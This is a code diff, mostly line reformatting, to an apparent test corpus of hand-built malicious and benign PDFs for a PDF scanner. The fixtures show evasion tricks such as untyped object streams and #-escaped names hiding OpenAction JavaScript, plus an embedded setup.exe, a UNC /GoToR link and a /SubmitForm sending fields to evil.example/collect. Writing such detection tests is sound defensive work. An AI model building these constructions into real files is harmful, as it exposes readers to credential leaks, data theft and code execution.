@@ -43,7 +43,10 @@ export function handPdf(spec: HandPdf): Buffer {
       where.set(Number(n), { type: 2, stream: os.number, index });
     });
     const packed = deflateSync(Buffer.from(header + data, 'latin1')).toString('latin1');
-    write(os.number, `<< ${os.dict} /N ${members.length} /First ${header.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`);
+    write(
+      os.number,
+      `<< ${os.dict} /N ${members.length} /First ${header.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
+    );
   }
   for (const [n, at] of Object.entries(spec.offsets ?? {})) where.set(Number(n), { type: 1, offset: at(text) });
 
@@ -88,13 +91,22 @@ export const maliciousPdfs: CorpusFile[] = [
   {
     name: 'OpenAction JavaScript in an object stream without /Type',
     seen: 'javascript',
-    bytes: async () => handPdf({ objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page() }, objectStreams: [{ number: 9, dict: '', members: { 10: alert } }] }),
+    bytes: async () =>
+      handPdf({
+        objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page() },
+        objectStreams: [{ number: 9, dict: '', members: { 10: alert } }],
+      }),
   },
   {
     name: 'OpenAction JavaScript in an object stream whose /Type is written /#4fbjStm, its own names escaped',
     seen: 'javascript',
     bytes: async () =>
-      handPdf({ objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page() }, objectStreams: [{ number: 9, dict: '/Type /#4fbjStm', members: { 10: '<< /#53 /J#61vaScript /#4aS (app.alert\\(1\\)) >>' } }] }),
+      handPdf({
+        objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page() },
+        objectStreams: [
+          { number: 9, dict: '/Type /#4fbjStm', members: { 10: '<< /#53 /J#61vaScript /#4aS (app.alert\\(1\\)) >>' } },
+        ],
+      }),
   },
   {
     name: 'an embedded file in a name tree inside an object stream without /Type, the file stream untyped',
@@ -103,7 +115,16 @@ export const maliciousPdfs: CorpusFile[] = [
       handPdf({
         objects: { 1: catalog('/Names 10 0 R'), 2: pages, 3: page(), 14: '<< /Length 2 >>\nstream\nMZ\nendstream' },
         objectStreams: [
-          { number: 9, dict: '', members: { 10: '<< /EmbeddedFiles 11 0 R >>', 11: '<< /Kids [12 0 R] >>', 12: '<< /Limits [(setup.exe) (setup.exe)] /Names [(setup.exe) 13 0 R] >>', 13: '<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 14 0 R >> >>' } },
+          {
+            number: 9,
+            dict: '',
+            members: {
+              10: '<< /EmbeddedFiles 11 0 R >>',
+              11: '<< /Kids [12 0 R] >>',
+              12: '<< /Limits [(setup.exe) (setup.exe)] /Names [(setup.exe) 13 0 R] >>',
+              13: '<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 14 0 R >> >>',
+            },
+          },
         ],
       }),
   },
@@ -113,25 +134,52 @@ export const maliciousPdfs: CorpusFile[] = [
     bytes: async () => {
       let action = alert;
       for (let i = 0; i < 61; i++) action = `<< /S /GoTo /D [3 0 R /Fit] /Next ${action} >>`;
-      return handPdf({ objects: { 2: pages, 3: page() }, objectStreams: [{ number: 9, dict: '/Type /ObjStm', members: { 1: catalog(`/AA << /WP ${action} >>`) } }] });
+      return handPdf({
+        objects: { 2: pages, 3: page() },
+        objectStreams: [{ number: 9, dict: '/Type /ObjStm', members: { 1: catalog(`/AA << /WP ${action} >>`) } }],
+      });
     },
   },
   {
     name: 'a link to a web address (/URI)',
     seen: 'link',
-    bytes: async () => handPdf({ objects: { 1: catalog(), 2: pages, 3: page('/Annots [4 0 R]'), 4: link('<< /S /URI /URI (https://evil.example/login) >>') } }),
+    bytes: async () =>
+      handPdf({
+        objects: {
+          1: catalog(),
+          2: pages,
+          3: page('/Annots [4 0 R]'),
+          4: link('<< /S /URI /URI (https://evil.example/login) >>'),
+        },
+      }),
   },
   {
     name: 'a link that opens another file (/GoToR) from an untyped object stream',
     seen: 'link',
     bytes: async () =>
-      handPdf({ objects: { 1: catalog(), 2: pages, 3: page('/Annots [4 0 R]') }, objectStreams: [{ number: 9, dict: '', members: { 4: link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>') } }] }),
+      handPdf({
+        objects: { 1: catalog(), 2: pages, 3: page('/Annots [4 0 R]') },
+        objectStreams: [
+          {
+            number: 9,
+            dict: '',
+            members: { 4: link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>') },
+          },
+        ],
+      }),
   },
   {
     name: 'a form submission (/SubmitForm) sending the fields to another server',
     seen: 'annotation',
     bytes: async () =>
-      handPdf({ objects: { 1: catalog(), 2: pages, 3: page('/Annots [4 0 R]'), 4: link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>') } }),
+      handPdf({
+        objects: {
+          1: catalog(),
+          2: pages,
+          3: page('/Annots [4 0 R]'),
+          4: link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>'),
+        },
+      }),
   },
   {
     name: 'OpenAction JavaScript in an object hidden inside another stream’s bytes, found through the cross-reference',
@@ -139,7 +187,12 @@ export const maliciousPdfs: CorpusFile[] = [
     bytes: async () => {
       const hidden = `10 0 obj\n${alert}\nendobj\n`;
       return handPdf({
-        objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page(), 5: `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream` },
+        objects: {
+          1: catalog('/OpenAction 10 0 R'),
+          2: pages,
+          3: page(),
+          5: `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`,
+        },
         offsets: { 10: (text) => text.indexOf('10 0 obj') },
       });
     },
@@ -157,7 +210,9 @@ export const goodPdfs: CorpusFile[] = [
     name: 'a pdf-lib document with text, saved with object streams',
     bytes: async () => {
       const doc = await PDFDocument.create();
-      doc.addPage([595, 842]).drawText('Application 2026', { x: 50, y: 780, font: await doc.embedFont(StandardFonts.Helvetica) });
+      doc
+        .addPage([595, 842])
+        .drawText('Application 2026', { x: 50, y: 780, font: await doc.embedFont(StandardFonts.Helvetica) });
       return Buffer.from(await doc.save({ useObjectStreams: true }));
     },
   },
@@ -170,7 +225,12 @@ export const goodPdfs: CorpusFile[] = [
       for (const [i, image] of [jpg, png, jpg].entries()) {
         const p = doc.addPage([595, 842]);
         p.drawImage(image, { x: 0, y: 0, width: 595, height: 842 });
-        p.drawText(`page ${i + 1}`, { x: 20, y: 20, size: 9, font: await doc.embedFont([StandardFonts.TimesRoman, StandardFonts.Courier, StandardFonts.HelveticaBold][i]) });
+        p.drawText(`page ${i + 1}`, {
+          x: 20,
+          y: 20,
+          size: 9,
+          font: await doc.embedFont([StandardFonts.TimesRoman, StandardFonts.Courier, StandardFonts.HelveticaBold][i]),
+        });
       }
       doc.setTitle('scan');
       return Buffer.from(await doc.save({ useObjectStreams: false }));
@@ -205,13 +265,25 @@ export const goodPdfs: CorpusFile[] = [
         if (i < items.length - 1) item.set(PDFName.of('Next'), items[i + 1]);
         ctx.assign(ref, item);
       });
-      ctx.assign(outlines, ctx.obj({ Type: 'Outlines', First: items[0], Last: items[items.length - 1], Count: items.length }));
+      ctx.assign(
+        outlines,
+        ctx.obj({ Type: 'Outlines', First: items[0], Last: items[items.length - 1], Count: items.length }),
+      );
       doc.catalog.set(PDFName.of('Outlines'), outlines);
       doc.catalog.set(PDFName.of('PageMode'), PDFName.of('UseOutlines'));
       doc.catalog.set(PDFName.of('OpenAction'), ctx.obj([first.ref, 'Fit']));
-      const internal = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [10, 10, 100, 30], Border: [0, 0, 0], Dest: [doc.getPage(1).ref, 'Fit'] }));
+      const internal = ctx.register(
+        ctx.obj({
+          Type: 'Annot',
+          Subtype: 'Link',
+          Rect: [10, 10, 100, 30],
+          Border: [0, 0, 0],
+          Dest: [doc.getPage(1).ref, 'Fit'],
+        }),
+      );
       first.node.set(PDFName.of('Annots'), ctx.obj([internal]));
-      const xmp = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>';
+      const xmp =
+        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>';
       doc.catalog.set(PDFName.of('Metadata'), ctx.register(ctx.stream(xmp, { Type: 'Metadata', Subtype: 'XML' })));
       return Buffer.from(await doc.save({ useObjectStreams: true }));
     },
@@ -221,8 +293,15 @@ export const goodPdfs: CorpusFile[] = [
     bytes: async () => {
       const content = '/URI gs q 100 0 0 100 50 50 cm /Im1 Do Q q /JS Do Q';
       return handPdf({
-        objects: { 2: pages, 3: page('/Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >>'), 4: `<< /Length ${content.length} >>\nstream\n${content}\nendstream`, 5: '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream' },
-        objectStreams: [{ number: 9, dict: '/Type /ObjStm', members: { 1: catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>') } }],
+        objects: {
+          2: pages,
+          3: page('/Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >>'),
+          4: `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+          5: '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream',
+        },
+        objectStreams: [
+          { number: 9, dict: '/Type /ObjStm', members: { 1: catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>') } },
+        ],
       });
     },
   },
